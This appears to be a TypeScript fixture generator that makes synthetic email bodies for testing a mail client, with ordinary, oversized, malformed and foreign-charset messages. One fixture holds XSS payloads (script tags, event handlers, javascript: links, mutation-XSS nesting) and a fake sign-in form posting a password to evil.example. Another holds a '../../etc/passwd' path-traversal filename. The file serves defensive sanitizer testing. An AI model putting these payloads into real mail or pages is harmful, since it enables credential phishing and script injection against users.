// The bodies of generated mail: ordinary ones, and one maker for each way in which mail is large, broken, foreign or
// hostile. A body is made once and shared by the messages that have it. Deterministic; nobody in it is real.
import { multipart, part } from './compose.ts'
import { foreignTexts } from './generate-foreign.ts'

export interface Content {
  /** Content headers and their values' lines, each ended; one character a byte. */
  readonly lines: string
  readonly body: Buffer
  /** As it goes into the header; absent where any will do. */
  readonly subject?: string
  /** Header fields that this message lacks. */
  readonly without?: readonly string[]
}

const words =
  'invoice meeting project travel budget garden contract server release lunch ticket museum harbour bicycle coffee winter report library piano kitchen delivery schedule estimate payment review bridge market teacher window station Zürich café naïve Ærø Łódź'.split(
    ' ',
  )

/** Words that differ from number to number, the same at every run. */
export function sentence(seed: number, length: number): string {
  let state = (seed * 2_654_435_761) >>> 0
  return Array.from({ length }, () => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0
    return words[(state >>> 16) % words.length] ?? ''
  }).join(' ')
}

/** A body already written with its content headers before it, taken apart. */
function contentOf(written: string | Buffer, more: Omit<Content, 'lines' | 'body'> = {}): Content {
  const bytes = Buffer.from(written)
  const end = bytes.indexOf('\r\n\r\n')
  return { lines: bytes.subarray(0, end + 2).toString('latin1'), body: Buffer.from(bytes.subarray(end + 4)), ...more }
}

function raw(type: string, body: string | Buffer, more: Omit<Content, 'lines' | 'body'> = {}): Content {
  return { lines: `Content-Type: ${type}\r\nContent-Transfer-Encoding: 8bit\r\n`, body: Buffer.from(body), ...more }
}

const TEXT = 'text/plain; charset=utf-8'
const HTML = 'text/html; charset=utf-8'

function ordinary(seed: number): Content {
  const text = `Hello,\r\n\r\n${sentence(seed, 12 + (seed % 40))}.\r\n\r\nReference ${1000 + seed}\r\n`
  if (seed % 3 !== 0) return raw(TEXT, text)
  const html = `<html><body><p>Hello,</p><p>${sentence(seed, 30)}.</p><p>Reference <b>${1000 + seed}</b></p></body></html>`
  return contentOf(multipart('alternative', [part(TEXT, text), part(HTML, html)]))
}

function nested(levels: number): string {
  let inner = part(TEXT, 'At the bottom of thirty boxes.')
  for (let level = levels; level > 0; level--) {
    inner = `Content-Type: multipart/mixed; boundary="box-${level}"\r\n\r\n--box-${level}\r\n${inner}\r\n--box-${level}--\r\n`
  }
  return inner
}

const hostileHtml = `<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/t.gif)}</style></head>
<body onload="alert(1)"><script>document.title='owned'</script><img src=x onerror="alert(2)">
<svg><script>alert(3)</script><a xlink:href="javascript:alert(4)"><text>click</text></a></svg>
<a href="java&#115;cript:alert(5)">a link</a><iframe srcdoc="<script>alert(6)</script>"></iframe>
<form action="https://evil.example/steal"><input name="password" type="password"><button>Sign in</button></form>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(7)&gt;"></table></mtext></math>
<object data="data:text/html,x"></object><p style="position:fixed;top:0;left:0;width:100%;height:100%">Harmless words</p></body></html>`

const names = [
  '../../etc/passwd',
  'a "quoted" name.pdf',
  'Übersicht – 請求書.pdf',
  'CON',
  `${'long-name-'.repeat(30)}.txt`,
]
const subjects = [
  '🎉 Party on Friday 🎈🥳',
  'דוח חודשי לאישור',
  'تقرير الاجتماع',
  '會議紀錄與附件',
  'Zażółć gęślą jaźń',
]

function withFile(name: string, type: string, content: string, text: string): string {
  const bytes = [...Buffer.from(name)].map((byte) => `%${byte.toString(16).padStart(2, '0').toUpperCase()}`)
  const isPlain = !/[^\x20-\x7e]/.test(name)
  const parameter = isPlain ? `filename="${name.replace(/["\\]/g, '\\$&')}"` : `filename*=UTF-8''${bytes.join('')}`
  const file = part(type, content, `Content-Disposition: attachment; ${parameter}\r\n`)
  return multipart('mixed', [part(TEXT, text), file])
}

const ics =
  'BEGIN:VCALENDAR\r\nVERSION:2.0\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:1@example.com\r\nSUMMARY:Planning\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n'
const letter =
  'From: Old Friend <friend@example.net>\r\nTo: you@example.com\r\nSubject: The letter inside\r\n\r\nInner words.\r\n'

function pick<T>(list: readonly T[], at: number, otherwise: T): T {
  return list[at % list.length] ?? otherwise
}

/** Each stands for two messages in a hundred. @param round varies the kind where it has variants */
const kinds: readonly ((round: number) => Content)[] = [
  (round) => raw(TEXT, `${sentence(round, 60)}.\r\n`.repeat(Math.ceil(300_000 / (sentence(round, 60).length + 3)))),
  (round) => {
    const row = `<tr><td style="color:#333">${sentence(round, 20)}</td><td><a href="https://shop.example/${round}">more</a></td></tr>\n`
    return raw(HTML, `<html><body><table>${row.repeat(Math.ceil(1_000_000 / row.length))}</table></body></html>`)
  },
  foreign,
  (round) => foreign(round + 2),
  () => ({
    lines: 'Content-Type: text/plain\r\n',
    body: Buffer.from([0x47, 0x72, 0xfc, 0xdf, 0x65, 0x20, 0xff, 0xfe, 0xc3, 0x28, 0x20, 0x80, 0x6f, 0x6b, 0x0d, 0x0a]),
  }),
  () => raw(TEXT, 'before the nul\u0000after the nul \u0000\u0000 end\r\n', { subject: 'Nul \u0000 in the subject' }),
  () => contentOf(nested(30)),
  () =>
    contentOf(
      multipart('mixed', [part(TEXT, 'See the letter inside.'), `Content-Type: message/rfc822\r\n\r\n${letter}\r\n`]),
    ),
  () => raw(HTML, hostileHtml, { subject: 'You won <script>alert(0)</script>' }),
  (round) => {
    const lacks = [['Date'], ['From'], ['Subject'], ['Date', 'From', 'Subject', 'To', 'Message-ID']]
    return raw(TEXT, 'Something is missing above.\r\n', { without: pick(lacks, round, []) })
  },
  (round) => {
    const broken = [
      'Content-Type: multipart/mixed; boundary="open"\r\n\r\n--open\r\nContent-Type: text/plain\r\n\r\nThe end never comes.\r\n',
      'Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\nSGVsbG8*!! d29ybGQ=====\r\nnot base64 at all é\r\n',
      'Content-Type: multipart/alternative\r\n\r\n--what\r\n\r\nNo boundary was named.\r\n--what--\r\n',
      'Content-Type: text/plain; charset="no-such-charset\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\nHalf =E9 and =ZZ and =\r\n',
    ]
    return contentOf(pick(broken, round, ''))
  },
  (round) =>
    raw(TEXT, 'The subject says it all.\r\n', {
      subject: sentence(round, 80)
        .replace(/[^\x20-\x7e]/g, 'x')
        .slice(0, 400)
        .padEnd(400, '!'),
    }),
  (round) => contentOf(withFile(pick(names, round, 'x'), 'application/octet-stream', 'content', 'A file is attached.')),
  (round) => contentOf(withFile(`scan-${round % 20}.pdf`, 'application/pdf', '%PDF-1.4\n%%EOF\n', sentence(round, 10))),
  (round) => raw(TEXT, `Sent twice over a list, no. ${round % 5}.\r\n`),
  () =>
    contentOf(
      multipart('alternative', [
        part(TEXT, 'Planning on Tuesday'),
        part('text/calendar; method=REQUEST; charset=utf-8', ics),
      ]),
    ),
  () => raw(TEXT, ''),
  (round) => {
    const subject = pick(subjects, round, '')
    return raw(TEXT, `${subject}\r\n`, { subject: `=?UTF-8?B?${Buffer.from(subject).toString('base64')}?=` })
  },
]

/** Place of the kind whose messages share Message-IDs. */
export const DUPLICATE_KIND = 14

function foreign(round: number): Content {
  const [first] = foreignTexts
  const text = foreignTexts[round % foreignTexts.length] ?? first
  if (text === undefined) return ordinary(round)
  const { charset } = text
  return {
    lines: `Content-Type: text/plain; charset=${charset}\r\nContent-Transfer-Encoding: 8bit\r\n`,
    body: Buffer.from(text.text, 'base64'),
    subject: `=?${charset.toUpperCase()}?B?${text.subject}?=`,
  }
}

const ORDINARY_VARIANTS = 400
const KIND_VARIANTS = 20

/** Contents by number; the same number gives the same object. */
export function createContents(): { of(index: number): { content: Content; kind: number | null } } {
  const made = new Map<string, Content>()
  const once = (key: string, make: () => Content): Content => {
    const found = made.get(key) ?? make()
    made.set(key, found)
    return found
  }
  return {
    of(index) {
      const [place, round] = [index % 50, Math.floor(index / 50)]
      const kind = kinds[place]
      if (kind === undefined) {
        const seed = Math.imul(index, 40_503) % ORDINARY_VARIANTS
        return { content: once(`ordinary ${seed}`, () => ordinary(Math.abs(seed))), kind: null }
      }
      // The large ones in two variants only: twenty would fill the memory.
      const variant = round % (place < 2 ? 2 : KIND_VARIANTS)
      return { content: once(`${place} ${variant}`, () => kind(variant)), kind: place }
    },
  }
}
